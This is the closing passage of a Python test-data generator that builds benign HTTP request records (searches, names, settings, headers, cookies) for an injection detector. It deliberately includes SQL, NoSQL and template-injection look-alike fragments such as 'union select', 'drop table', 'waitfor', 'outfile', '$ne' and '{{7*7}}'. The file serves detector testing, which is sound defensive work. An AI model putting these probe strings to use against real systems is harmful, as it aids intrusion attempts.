    "we prefer the Oxford comma: red, white, and blue",
    "the mongo exporter is deprecated, use the Postgres one",
    "the $ne operator in our Mongo filters is only used server-side",
    "the jsonb column stores the user preferences",
    "the 1e9 limit on the counter is fine for now",
    "the integer 2147483647 is the max for a signed 32-bit int, fun fact",
    "template tags like {{ user.name }} are escaped by default",
    "the angular brackets in the subject line broke the email",
]
SEARCHES = [
    "O'Brien", "Dana Whitfield", "union station", "select committee", "script writer", "drop shipping",
    "sleep study", "benchmark team", "php developer", "alert team", "exec assistant", "Mary-Jane O'Connor",
    "order by date", "insert coin", "delete account", "update billing", "merge request", "match day",
    "against the odds", "case study", "when then", "information desk", "system admin", "shell company",
    "Johnson & Johnson", "AT&T", "R&D", "Q&A", "C#", "C++", "node.js", "vue.js", "object storage",
    "embed code", "base camp", "link building", "meta data", "style guide", "frame maker", "applet",
    "import export", "table tennis", "window cleaner", "document control", "cookie policy", "location manager",
    "name change", "javascript", "script", "onload", "on call", "char", "hex key", "1=1 meeting",
    "2147483647", "4294967295", "1e9", "0x1F", "100%", "50/50", "\"exact phrase\"", "'quoted'",
    "x' is not a name", "Saint-Étienne", "Zoë", "Åsa Lindström", "José Núñez", "Łukasz", "Müller",
    "李小龍", "Nguyễn", "data analyst", "data: science", "phar lap", "zip code", "glob pattern",
    "expect delays", "input output", "memory lane", "temp agency", "filter coffee", "resource planning",
    "$5 coupon", "$ne", "$gt 100", "union select", "drop table", "or 1", "and/or", "either/or",
    "is null", "not null", "between 10 and 20", "like new", "sounds like", "having fun", "group by team",
    "limit 10", "waitfor", "delay", "shutdown", "procedure manual", "declare income", "open cursor",
    "create account", "alter ego", "truncate text", "rename file", "load data", "into the wild",
    "outfile", "dumpfile", "sys admin", "master data", "temp db", "northwind traders", "pg admin",
    "mysql user group", "information_schema", "sqlite", "json export", "jsonb", "concat", "substring",
    "version 2.1", "user guide", "database migration", "schema design", "current user", "connection issues",
    "<3", "a < b", "x > y", "->", "=>", "==", "!=", "&&", "||", "#hashtag", "--help", "/* comment */",
    "@channel", "@@", "`code`", "´accent´", "{{7*7}}", "${name}", "<b>bold</b>", "<br>", "<hr>",
]
NAMES = [
    "Seán O'Sullivan", "Aoife Ní Bhriain", "D'Arcy Reynolds", "Jean-Luc Picard", "Mary O'Hara-Smith",
    "Zoë Ångström", "François L'Écuyer", "Union Pacific Ops", "Select Staffing", "The Script Shop",
    "Exec Office", "Sleep Lab North", "Benchmark Partners", "Alert Logic", "Drop Zone Skydiving",
    "Match Group", "Case Western", "Information Services", "System Integrators Ltd", "Shell Energy",
    "Object Lessons Inc", "Embed Studio", "Frame & Co", "Base Camp Crew", "Link Logistics", "Meta Team",
    "Style Council", "Window World", "Cookie Monster Bakery", "Location Scouts", "Javascript Guild",
    "PHP User Group Dublin", "Data Wranglers", "Zip Couriers", "Glob Lab", "Expect Digital",
    "Input Devices Ltd", "Memory Care Unit", "Temp Staffing", "Filter Works",
]
SETTINGS = [
    "Dana W.", "On vacation until 12 Aug", "In a meeting", "Sleeping, back at 9", "Focus mode: deep work",
    "Europe/Dublin (GMT+1)", "America/New_York", "Cheers, -- Dana", "Best regards, Tom & the team",
    "Sent from my phone", "Working on the union contract", "Reviewing SQL migrations",
    "Writing the onboarding script", "PHP on-call this week", "Out sick", "Lunch 12:30-13:30",
    "He/him", "She/her", "They/them", "🌴 OOO", "🚀 launching", "📅 busy", "Deploying v2.3.1",
    "Drop me a line", "Select your own adventure", "Benchmarking laptops", "Alert: on call", "1:1s all day",
    "Ask me about <details> and <summary>", "Café ☕ break", "Head of R&D", "Q&A lead",
    "100% remote", "50/50 office split", "Available after 3pm", "x2 coffee", "Back @ 2", "Mon–Fri",
    "#team-platform", "--",
]
PATHS = [
    "42", "1001", "me", "dana.whitfield", "seán.osullivan", "o'brien", "jean-luc", "zoë", "mary_jane",
    "union-station-ops", "select-committee", "sleep-lab", "benchmark-2024", "alert-rules", "exec-team",
    "script-library", "drop-zone", "case-studies", "system-status", "object-storage", "embed-codes",
    "base-camp", "style-guide", "cookie-policy", "window-cleaning", "document-control", "meta-tags",
    "link-preview", "frame-rates", "import-jobs", "users", "teams", "roles", "invites", "audit-log",
    "search", "reports", "exports", "health", "v2", "user@example.com", "ann+test@example.org", "café",
    "résumé.pdf", "report (final).pdf", "Q3 plan", "R&D", "50%", "a b", "2024-07-01", "1e9", "0x1F",
    "php-meetup", "javascript-guild", "information", "schema", "order", "group", "table", "index",
]
USER_AGENTS = [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.71 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) "
    "SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.38.125 "
    "Chrome/124.0.6367.243 Electron/30.1.0 Safari/537.36 Sonic Slack_SSB/4.38.125",
    "ExampleApp/5.2.1 (iPhone; iOS 17.5; Scale/3.00)",
    "ExampleApp/5.2.0 (Android 14; Pixel 7) okhttp/4.12.0",
    "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 "
    "Safari/537.36 OPR/111.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Vivaldi/6.8",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile "
    "Safari/537.36 EdgA/126.0.0.0",
]
REFERERS = [
    "https://www.google.com/", "https://app.example.com/users?q=o%27brien",
    "https://app.example.com/search?q=union+station",
    "https://duckduckgo.com/", "https://www.bing.com/search?q=select+committee+minutes",
    "https://app.example.com/admin/users/search", "https://app.example.com/docs/php-sdk#install",
    "https://app.example.com/help/article/script-editor", "https://t.co/abc123XYZ",
    "https://www.linkedin.com/", "https://app.example.com/users/42?tab=activity&sort=date",
    "https://app.example.com/reports?from=2024-01-01&to=2024-03-31",
]
COOKIE_VALUES = [
    "o%27brien", "union%20station", "select%20committee", "dark", "en-US", "tz=Europe%2FDublin",
    "sort=name&dir=asc", "php%20developer", "script%20writer", "1e9", "2147483647", "%7B%22cols%22%3A3%7D",
]


def benign() -> Iterator[dict[str, Any]]:
    c = Client(8302)
    n = 0

    def rec(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement}

    for i, text in enumerate(CHAT):
        yield rec("slack", "json", c.slack(LEADS[i % len(LEADS)] + text if i % 4 == 0 else text))
        yield rec("bio", "json", c.json_req("POST", "/api/users", c.user_doc("bio", text)))
        if i % 3 == 0:
            yield rec("patch", "json", c.json_req("PATCH", "/api/users/42", c.user_doc("bio", text)))
    for text in SEARCHES:
        yield rec("search", "query", c.query(text))
        yield rec("adminsearch", "form", c.search_form(text))
    for i, name in enumerate(NAMES):
        field = ("name", "company", "department", "title")[i % 4]
        yield rec("profile", "json", c.json_req("POST", "/api/users", c.user_doc(field, name)))
        yield rec("search", "query", c.query(name))
    for i, text in enumerate(SETTINGS):
        yield rec("settings", "form", c.settings_form(SETTINGS_FIELDS[i % len(SETTINGS_FIELDS)], text))
        yield rec("patch", "json", c.json_req("PATCH", "/api/users/42", c.user_doc("display_name", text)))
    for seg in PATHS:
        yield rec("path", "path", c.path(seg))
    for ua in USER_AGENTS * 3:
        yield rec("ua", "header", c.header("ua", ua))
    for ref in REFERERS * 2:
        yield rec("referer", "header", c.header("referer", ref))
    for value in COOKIE_VALUES * 2:
        yield rec("cookie", "header", c.header("cookie", value, raw=True))


if __name__ == "__main__":
    print_records(attacks(), benign())
